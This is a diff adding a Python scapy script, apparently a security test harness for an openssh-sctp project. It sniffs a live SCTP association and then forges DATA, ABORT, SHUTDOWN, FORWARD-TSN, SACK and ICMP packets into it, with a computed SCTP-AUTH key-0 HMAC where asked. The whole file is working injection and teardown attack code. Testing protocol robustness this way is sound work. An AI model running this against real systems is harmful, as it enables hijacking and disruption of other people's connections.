@@ -1,0 +1,230 @@
+#!/usr/bin/python3
+# sctp-forge: an attacker on the path forges chunks into an association it
+# watches, with scapy: the seeds' attacks T2 (FORWARD-TSN), T3 (DATA),
+# T4 (ABORT, SHUTDOWN) and a forged SACK.
+#
+#   sctp-forge.py IFACE DPORT MODE...
+#	sniff IFACE for an association set up to port DPORT: its INIT and
+#	INIT ACK (tags, and the SCTP-AUTH parameters from which the kernel
+#	derives the association key of key 0, the empty key: RFC 4895 6.1),
+#	the responder's DATA (its TSNs) and the initiator's (its TSNs).
+#	Then, for each MODE, send the initiator a packet from the responder,
+#	with the initiator's tag.  MODE is KIND or KIND-auth0:
+#	  data      a DATA chunk, unordered on stream 0, with the TSN after
+#	            the last one seen, holding INJECTED-BY-THE-PATH
+#	  abort     an ABORT chunk
+#	  shutdown  a SHUTDOWN chunk acknowledging the initiator's last TSN
+#	  fwdtsn    a FORWARD-TSN moving the cumulative TSN 8 past the last
+#	            one seen: the responder's next 8 DATA chunks would be
+#	            taken for duplicates and dropped
+#	  sack      a SACK acknowledging 8 TSNs past the initiator's last:
+#	            TSNs never sent (Linux aborts on that)
+#	  icmp-mtu     an ICMP "fragmentation needed" (MTU 296) for the
+#	               initiator's packets to the responder (IPv4; the seeds'
+#	               T14), from the responder's address
+#	  icmp-unreach an ICMP "protocol unreachable" for them (T14)
+#	-auth0 puts an AUTH chunk with key 0 and the right HMAC in front, as
+#	an attacker who saw the set-up can compute it; without it the chunk
+#	goes alone.  "plain" and "auth0" are data and data-auth0.
+#	Sends once DELAY seconds (env FORGE_DELAY, default 0) have passed
+#	since the first DATA, the file FORGE_GO exists if that is set, and
+#	neither side sent DATA for 1 s (so the TSNs are current); 2 s
+#	between modes.  Prints "sniffing",
+#	"learned", then "sent MODE" for each; exits 1 if it saw no
+#	association within 240 s.
+#
+# Copyright (c) 2026 The openssh-sctp authors.  BSD licence: see LICENCE.
+
+import hashlib
+import hmac
+import os
+import struct
+import sys
+import time
+
+from scapy.all import ICMP, IP, IPv6, AsyncSniffer, Raw, conf, send
+from scapy.layers.sctp import SCTP
+
+conf.verb = 0
+iface, dport = sys.argv[1], int(sys.argv[2])
+modes = sys.argv[3:]
+delay = float(os.environ.get("FORGE_DELAY", "0"))
+go = os.environ.get("FORGE_GO")
+st = {"tsn": None, "ctsn": None}
+
+
+def ip_of(p):
+    return p[IP] if IP in p else p[IPv6]
+
+
+def chunks(raw):
+    off = 0
+    while off + 4 <= len(raw):
+        ctype, flags, clen = struct.unpack("!BBH", raw[off:off + 4])
+        if clen < 4:
+            return
+        yield ctype, flags, raw[off:off + clen]
+        off += (clen + 3) & ~3
+
+
+def auth_params(chunk):
+    """RANDOM, CHUNKS and HMAC-ALGO TLVs of an INIT or INIT ACK."""
+    found, off = {}, 20
+    while off + 4 <= len(chunk):
+        ptype, plen = struct.unpack("!HH", chunk[off:off + 4])
+        if plen < 4:
+            break
+        if ptype in (0x8002, 0x8003, 0x8004):
+            found[ptype] = chunk[off:off + plen]
+        off += (plen + 3) & ~3
+    return found
+
+
+def vector(params):
+    return params.get(0x8002, b"") + params.get(0x8003, b"") + \
+        params.get(0x8004, b"")
+
+
+def hmac_ids(params):
+    v = params.get(0x8004, b"")[4:]
+    return [struct.unpack("!H", v[i:i + 2])[0] for i in range(0, len(v), 2)]
+
+
+def watch(p):
+    if SCTP not in p:
+        return
+    s = p[SCTP]
+    raw = bytes(s.payload)
+    # Once its INIT is seen, only this association's packets (an earlier
+    # association to the port may still be there).
+    if "init" in st and st["init"][2] not in (s.sport, s.dport):
+        return
+    for ctype, flags, c in chunks(raw):
+        if ctype == 1 and s.dport == dport and "init" not in st:
+            st["init"] = (ip_of(p).src, ip_of(p).dst, s.sport,
+                          struct.unpack("!I", c[4:8])[0], auth_params(c))
+        elif ctype == 2 and "init" in st and s.sport == dport:
+            st["initack"] = (struct.unpack("!I", c[4:8])[0],
+                             auth_params(c))
+        elif ctype == 0x0f and "initack" in st and s.sport == dport and \
+                "genuine" not in st:
+            st["genuine"] = raw[raw.index(c):]
+        elif ctype == 0 and "initack" in st and s.sport == dport and \
+                os.environ.get("FORGE_DEBUG") and "dbg" not in st:
+            st["dbg"] = 1
+            print("genuine " + repr(p), flush=True)
+        elif ctype == 0 and "initack" in st and s.dport == dport:
+            tsn = struct.unpack("!I", c[4:8])[0]
+            if st["ctsn"] is None or tsn > st["ctsn"]:
+                st["ctsn"] = tsn
+            st["clast"] = time.time()
+        elif ctype == 0 and "initack" in st and s.sport == dport:
+            tsn = struct.unpack("!I", c[4:8])[0]
+            if st["tsn"] is None or tsn > st["tsn"]:
+                st["tsn"] = tsn
+            st["last"] = time.time()
+            if "first" not in st:
+                st["first"] = time.time()
+
+
+def ready():
+    """DELAY after the first DATA, FORGE_GO there, both sides quiet."""
+    now = time.time()
+    return "first" in st and now - st["first"] >= delay and \
+        (go is None or os.path.exists(go)) and now - st["last"] >= 1 and \
+        now - st.get("clast", 0) >= 1
+
+
+# The sniffer runs on; the packets go when ready() (at most 240 s).
+sniffer = AsyncSniffer(iface=iface, prn=watch, store=0,
+                       started_callback=lambda: print("sniffing",
+                                                      flush=True))
+sniffer.start()
+t0 = time.time()
+while not ready() and time.time() - t0 < 240 + delay:
+    time.sleep(0.1)
+if st["tsn"] is None:
+    print("no association seen", flush=True)
+    os._exit(1)	# the sniffer's thread too
+csrc, sdst, cport, ctag, cparams = st["init"]
+stag, sparams = st["initack"]
+print("learned client tag %08x, server tsn %d, auth %s" %
+      (ctag, st["tsn"], "yes" if cparams and sparams else "no"), flush=True)
+v1, v2 = vector(cparams), vector(sparams)
+# Key 0 is the empty shared key; the smaller vector (as a number) first.
+if int.from_bytes(v1, "big") < int.from_bytes(v2, "big"):
+    secret = v1 + v2
+else:
+    secret = v2 + v1
+# The receiver (the initiator) verifies with an algorithm of its list.
+hid = 3 if 3 in hmac_ids(cparams) else 1
+digest = hashlib.sha256 if hid == 3 else hashlib.sha1
+hlen = digest().digest_size
+if "genuine" in st:
+    # The responder's own AUTH chunk under key 0, as a check of the above.
+    g = st["genuine"]
+    glen = struct.unpack("!H", g[2:4])[0]
+    gid = struct.unpack("!H", g[6:8])[0]
+    gd = hashlib.sha256 if gid == 3 else hashlib.sha1
+    calc = hmac.new(secret, g[:8] + b"\0" * (glen - 8) + g[glen:],
+                    gd).digest()
+    print("check: the responder's HMAC (id %d) %s" %
+          (gid, "matches" if calc == g[8:glen] else "differs"), flush=True)
+net = IPv6 if ":" in csrc else IP
+payload = b"INJECTED-BY-THE-PATH\n\n\n\n"	# 24 bytes: no padding
+
+
+def chunk(kind):
+    tsn = (st["tsn"] + 1) & 0xffffffff
+    ctsn = st["ctsn"] if st["ctsn"] is not None else 0
+    if kind == "data":
+        # The next TSN: the sender must be idle then, or its own chunk
+        # comes first.  (The receiver's SACK then acknowledges a TSN the
+        # sender has not sent: Linux aborts the association on that.)
+        return struct.pack("!BBHIHHI", 0, 0x07, 16 + len(payload), tsn,
+                           0, 0, 0) + payload
+    if kind == "abort":
+        return struct.pack("!BBH", 6, 0, 4)
+    if kind == "shutdown":
+        return struct.pack("!BBHI", 7, 0, 8, ctsn)
+    if kind == "fwdtsn":
+        return struct.pack("!BBHI", 192, 0, 8, (tsn + 7) & 0xffffffff)
+    if kind == "sack":
+        return struct.pack("!BBHIIHH", 3, 0, 16, (ctsn + 8) & 0xffffffff,
+                           65536, 0, 0)
+    raise SystemExit("unknown mode " + kind)
+
+
+for i, mode in enumerate(modes):
+    mode = {"plain": "data", "auth0": "data-auth0"}.get(mode, mode)
+    kind, _, how = mode.partition("-")
+    # Both sides quiet again (the sniffer keeps the TSNs current).
+    t0 = time.time()
+    while not ready() and time.time() - t0 < 10:
+        time.sleep(0.1)
+    if kind == "icmp":
+        # What the initiator sent the responder, quoted (its tag is the
+        # responder's), in the error a router on the path would send.
+        icmp = ICMP(type=3, code=4, nexthopmtu=296) if how == "mtu" else \
+            ICMP(type=3, code=2)
+        send(IP(src=sdst, dst=csrc) / icmp /
+             IP(src=csrc, dst=sdst, proto=132) /
+             SCTP(sport=cport, dport=dport, tag=stag))
+        print("sent %s" % mode, flush=True)
+        time.sleep(2)
+        continue
+    body = chunk(kind)
+    if how == "auth0":
+        auth = struct.pack("!BBHHH", 0x0f, 0, 8 + hlen, 0, hid)
+        mac = hmac.new(secret, auth + b"\0" * hlen + body, digest).digest()
+        body = auth + mac + body
+    pkt = (net(src=sdst, dst=csrc) / SCTP(sport=dport, dport=cport,
+                                          tag=ctag) / Raw(body))
+    if os.environ.get("FORGE_DEBUG"):
+        print(repr(net(bytes(pkt))), flush=True)
+    send(pkt)
+    print("sent %s (responder tsn %d, initiator tsn %s)" %
+          (mode, st["tsn"], st["ctsn"]), flush=True)
+    time.sleep(2)
+sys.stdout.flush()
+os._exit(0)
